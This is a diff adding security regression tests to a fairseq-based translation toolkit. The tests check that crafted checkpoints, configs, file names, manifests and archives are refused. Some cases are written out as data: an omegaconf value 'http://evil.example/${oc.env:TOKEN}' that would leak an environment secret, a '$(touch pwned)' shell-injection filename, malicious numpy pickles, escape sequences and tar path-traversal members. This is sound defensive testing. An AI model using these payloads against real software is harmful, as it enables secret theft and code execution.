@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import contextlib
 import gzip
 import hashlib
 import importlib
@@ -10,6 +11,7 @@ import json
 import os
 import pickle
 import re
+import shutil
 import struct
 import subprocess
 import sys
@@ -22,6 +24,7 @@ import fairseq
 import numpy as np
 import pytest
 import torch
+from fairseq import hub_utils
 from fairseq.checkpoint_utils import load_model_ensemble_and_task
 from omegaconf import OmegaConf
 from safetensors.torch import save_file
@@ -30,10 +33,12 @@ from fairseq_tg.compiled.translator import Translator
 from fairseq_tg.corpus.blocks import LONGEST_LINE, BlockStore, read_sentences
 from fairseq_tg.corpus.directory import CorpusDirectory
 from fairseq_tg.errors import UserError
-from fairseq_tg.loading.checkpoints import EVALUATED_OPTIONS, load_checkpoint
+from fairseq_tg.launch.processes import fairseq as fairseq_command
+from fairseq_tg.loading import data_only
+from fairseq_tg.loading.checkpoints import ALLOWED_GLOBALS, EVALUATED_OPTIONS, load_checkpoint
 from fairseq_tg.loading.data_only import DataUnpickler
 from fairseq_tg.models.actor_files import METADATA_KEY, read_actor_file
-from tests.conftest import REPO, USER_DIR, Workspace, run_process, run_tg
+from tests.conftest import REPO, USER_DIR, Workspace, run, run_process, run_tg
 
 MARK = "pwned"
 
@@ -209,6 +214,108 @@ def test_opcodes(tmp_path: Path, monkeypatch: Any, program: str) -> None:
     assert not os.path.exists(MARK)
 
 
+class Builds(Asks):
+    """Unpickles by calling a function and giving what it returns a state."""
+
+    def __init__(self, function: Any, args: Any, state: Any) -> None:
+        self.call = (function, args, state)
+
+
+ADDRESS = struct.pack("Q", 0x41414141)
+RECONSTRUCT, SCALAR = np.array(0.0).__reduce__()[0], np.float64(0.0).__reduce__()[0]
+OBJECTS, RECORDS = Asks(np.dtype, "O"), Asks(np.dtype, [("a", "O")])
+
+
+def array_of(kind: Any) -> Builds:
+    return Builds(RECONSTRUCT, (np.ndarray, (0,), b"b"), (1, (1,), kind, False, ADDRESS))
+
+
+#: Pickles that numpy takes for addresses of objects, for places outside of an array, or for any size of memory
+ARRAYS = {
+    "addresses": Asks(np.ndarray, (1,), OBJECTS, ADDRESS),
+    "addresses in records": Asks(np.ndarray, (1,), RECORDS, ADDRESS),
+    "no object": Asks(SCALAR, RECORDS),
+    "objects without flags": array_of(Builds(np.dtype, ("O", False, True), (3, "|", None, None, None, -1, -1, 0))),
+    "objects in numbers": array_of(
+        Builds(np.dtype, ("f8", False, True), (3, "<", None, ("a",), {"a": (OBJECTS, 0)}, 8, 8, 0))
+    ),
+    "a long object": Asks(SCALAR, Asks(np.dtype, "V1000000")),
+    "a long array": Asks(np.ndarray, (1 << 20,), OBJECTS),
+}
+
+
+@pytest.mark.parametrize("name", ARRAYS)
+def test_arrays_are_of_plain_numbers(workspace: Workspace, tmp_path: Path, monkeypatch: Any, name: str) -> None:
+    state = {**harmless_state(workspace.bases["transformer"]), "extra_state": {"x": ARRAYS[name]}}
+    torch.save(state, tmp_path / "evil.pt")
+    with pytest.raises(UserError, match=r"evil.pt' is refused: its pickle asks for numpy\."):
+        load_checkpoint(str(tmp_path / "evil.pt"))
+    monkeypatch.setattr(data_only, "TORCH_READS_DATA_ONLY", False)
+    data_only.allow(ALLOWED_GLOBALS)  # as with the older generation of torch
+    with pytest.raises(pickle.UnpicklingError, match=r"class numpy\."):
+        DataUnpickler(io.BytesIO(pickle.dumps(ARRAYS[name], 2))).load()
+
+
+def test_arrays_of_numbers_are_what_they_were(workspace: Workspace, tmp_path: Path) -> None:
+    kinds = ["?", "i1", "i2", "i4", "i8", "u1", "u2", "u4", "u8", "f2", "f4", "f8"]
+    arrays = [np.arange(6).astype(kind).reshape(2, 3) for kind in kinds]
+    state = {**harmless_state(workspace.bases["transformer"]), "extra_state": {"x": arrays + [a[1, 2] for a in arrays]}}
+    state["extra_state"]["x"].append(np.asfortranarray(arrays[0]))
+    torch.save(state, tmp_path / "good.pt")
+    for found, given in zip(load_checkpoint(str(tmp_path / "good.pt"))["extra_state"]["x"], state["extra_state"]["x"]):
+        assert type(found) is type(given) and found.dtype == given.dtype and (found == given).all()
+
+
+def test_a_view_is_not_larger_than_its_file(workspace: Workspace, tmp_path: Path) -> None:
+    """A tensor may repeat one number without end; who adds its bytes up takes memory for them all."""
+    state = harmless_state(workspace.bases["transformer"])
+    for value, problem in ((torch.zeros(1).expand(1 << 40), "larger than the file"), ("x", "no plain tensor")):
+        torch.save({**state, "model": {**state["model"], "x": value}}, tmp_path / "evil.pt")
+        with pytest.raises(UserError, match=rf"evil.pt' is no fairseq checkpoint.*its weight x is {problem}"):
+            load_checkpoint(str(tmp_path / "evil.pt"))
+    for value in (torch.zeros(3, device="meta"), torch.zeros(3).to_sparse()):
+        torch.save({**state, "model": {**state["model"], "x": value}}, tmp_path / "evil.pt")
+        with pytest.raises(UserError, match=r"evil.pt' is (?:refused|no fairseq checkpoint)"):
+            load_checkpoint(str(tmp_path / "evil.pt"))
+
+
+@pytest.mark.parametrize("lookup", ["http://evil.example/${oc.env:TOKEN}", "${${common.x}:TOKEN}"])
+@pytest.mark.parametrize("place", ["cfg", "args", "base"])
+def test_a_configuration_does_not_read_the_environment(
+    workspace: Workspace, tmp_path: Path, monkeypatch: Any, place: str, lookup: str
+) -> None:
+    """omegaconf would put a variable of ours where the file says: into an address to fetch, or what is saved next."""
+    monkeypatch.setenv("TOKEN", "secret")
+    state = load_checkpoint(workspace.bases["transformer"])
+    config = OmegaConf.to_container(state["cfg"], resolve=True)
+    if place == "base":  # where JSON may hide the sign
+        record = json.dumps({"options": {"_name": "transformer", "x": lookup}, "namespace": False, "fingerprint": "0"})
+        config["model"] = {"_name": "tg_transformer", "base_record": record.replace("$", "\\u0024"), "actor": "gate"}
+    else:
+        config["bpe"] = {"_name": "sentencepiece", "sentencepiece_model": lookup}
+    args = Namespace(arch="transformer", task="translation", data=lookup) if place == "args" else None
+    torch.save({**state, "args": args, "cfg": None if args else config}, tmp_path / "evil.pt")
+    with pytest.raises(UserError, match=r"is refused: its option .* asks for something of this machine"):
+        load_model_ensemble_and_task([str(tmp_path / "evil.pt")], task=workspace.task())
+
+
+def test_names_of_data_files_are_no_commands(workspace: Workspace, tmp_path: Path, monkeypatch: Any) -> None:
+    """fairseq finds the languages out from the names of files, and the kind of data; one kind it reads with a shell."""
+    monkeypatch.chdir(tmp_path)
+    source = f"$(touch {MARK})"
+    data = tmp_path / "data"
+    data.mkdir()
+    for language in (source, "yy"):
+        shutil.copy(f"{workspace.data}/dict.yy.txt", data / f"dict.{language}.txt")
+    for end in ("idx", "bin"):
+        shutil.copy(f"{workspace.data}/valid.xx-yy.xx.{end}", data / f"test.{source}-yy.{source}.{end}")
+    (data / f"test.{source}-yy.yy.fasta").write_text(">x\nABC\n")
+    flags = ["--path", workspace.bases["transformer"], "--user-dir", USER_DIR, "--task", "tg_translation", "--cpu"]
+    with contextlib.suppress(Exception):  # what there is, is no text
+        run("fairseq-generate", data, *flags)
+    assert not os.path.exists(MARK)
+
+
 def rewrite(source: str, target: Path, compression: int, extra: int = 0) -> None:
     with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w", compression) as new:
         for record in old.infolist():
@@ -307,6 +414,13 @@ def test_manifests(tmp_path: Path, changes: Dict[str, Any]) -> None:
     assert [path.name for path in tmp_path.iterdir()] == ["evil"]
 
 
+@pytest.mark.parametrize("counts", [{}, {"pairs": "x", "source_sentences": [], "skipped": []}])
+def test_counts_of_a_complete_corpus(tmp_path: Path, counts: Dict[str, Any]) -> None:
+    write_manifest(tmp_path / "evil", status="complete", counts=counts, means={}, skipped=[], files={})
+    with pytest.raises(UserError, match=r"evil/manifest.json' is damaged"):
+        run_tg("corpus", "status", tmp_path / "evil")
+
+
 def test_files_outside_of_a_corpus_are_not_looked_at(tmp_path: Path) -> None:
     (tmp_path / "secret").write_text("x")
     digest = hashlib.sha256(b"x").hexdigest()
@@ -325,6 +439,16 @@ def test_a_function_named_in_a_file_is_never_run(tmp_path: Path, monkeypatch: An
     with pytest.raises(UserError, match="are missing"):
         run_tg("corpus", "merge", tmp_path / "corpus", "--out", tmp_path / "out")
     assert not os.path.exists(MARK) and "evil_objective" not in sys.modules
+
+
+def test_words_of_a_file_have_no_control_over_a_terminal(tmp_path: Path) -> None:
+    write_manifest(tmp_path / "corpus", command="\x1b]0;x\x07", objective="\x1b[2J")
+    shown = run_tg("corpus", "status", tmp_path / "corpus")
+    assert "\\x1b]0;x\\x07" in shown and "\\x1b[2J" in shown and "\x1b" not in shown
+    write_manifest(tmp_path / "evil", languages=["\x1b[2J", "yy"])
+    with pytest.raises(UserError, match=r"evil/manifest.json' is damaged") as raised:
+        run_tg("corpus", "status", tmp_path / "evil")
+    assert "\x1b" not in str(raised.value)
 
 
 def test_bombs_in_lists(tmp_path: Path) -> None:
@@ -347,6 +471,47 @@ def test_bombs_in_blocks(tmp_path: Path) -> None:
     (tmp_path / "000000.json").write_text(json.dumps(summary))
     with pytest.raises(UserError, match="a line is longer than"):
         store.read(0)
+
+
+@pytest.mark.parametrize("kind", ["up", "root", "link", "hard link", "device"])
+def test_the_hub_unpacks_files_into_their_directory(tmp_path: Path, kind: str) -> None:
+    """fairseq would also move what an archive names from the root of the machine to where the archive was."""
+    import tarfile
+
+    (tmp_path / "mine").write_text("mine")
+    archive = tmp_path / "deep" / "model.tar.gz"
+    archive.parent.mkdir()
+    name = {"up": "model/../../mine", "root": str(tmp_path / "mine")}.get(kind, "model/a")
+    member = tarfile.TarInfo(name)
+    member.type = {"link": tarfile.SYMTYPE, "hard link": tarfile.LNKTYPE, "device": tarfile.CHRTYPE}.get(
+        kind, tarfile.REGTYPE
+    )
+    member.linkname = str(tmp_path / "mine") if "link" in kind else ""
+    with tarfile.open(archive, "w:gz") as file:
+        file.addfile(member, io.BytesIO())
+    with pytest.raises(UserError, match=rf"model.tar.gz' is refused: its '{re.escape(name)}'"):
+        hub_utils.from_pretrained(str(archive))
+    assert (tmp_path / "mine").read_text() == "mine" and archive.is_file()
+
+
+def test_the_hub_unpacks_a_model(workspace: Workspace, tmp_path: Path) -> None:
+    import tarfile
+
+    with tarfile.open(tmp_path / "model.tar.gz", "w:gz") as file:
+        file.add(workspace.bases["transformer"], "model/model.pt")
+        for language in ("xx", "yy"):
+            file.add(f"{workspace.data}/dict.{language}.txt", f"model/dict.{language}.txt")
+    made = hub_utils.from_pretrained(str(tmp_path / "model.tar.gz"), source_lang="xx", target_lang="yy")
+    assert len(made["models"]) == 1
+
+
+def test_processes_import_nothing_from_the_current_directory(tmp_path: Path) -> None:
+    """Who works in a directory that was sent to him runs nothing that is in it."""
+    for name in ("numpy", "torch", "fairseq", "json", "fairseq_tg", "fairseq_cli"):
+        (tmp_path / f"{name}.py").write_text(f"open('{MARK}', 'w')\n")
+    done = subprocess.run(fairseq_command("generate", "--help"), cwd=tmp_path, capture_output=True, text=True)
+    assert not done.returncode and "usage: fairseq-generate" in done.stdout, done.stderr
+    assert not (tmp_path / MARK).exists()
 
 
 def test_archives_stay_in_their_directory(tmp_path: Path) -> None:
